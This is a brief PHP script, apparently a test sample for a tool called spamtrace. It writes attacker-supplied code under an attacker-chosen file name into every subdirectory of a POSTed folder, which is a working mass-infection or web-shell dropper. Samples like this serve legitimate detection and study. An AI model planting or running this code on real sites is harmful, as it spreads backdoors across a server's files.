<?php
// spamtrace test sample: a posted script written under a posted name into every folder an
// iterator walk of the posted folder finds
$name = $_POST['n'];
$code = $_POST['c'];
$walk = new RecursiveIteratorIterator(
    new RecursiveDirectoryIterator($_POST['d'], FilesystemIterator::SKIP_DOTS),
    RecursiveIteratorIterator::SELF_FIRST
);
foreach ($walk as $f) {
    if ($f->isDir()) {
        file_put_contents($f->getPathname() . DIRECTORY_SEPARATOR . $name, $code);
    }
}
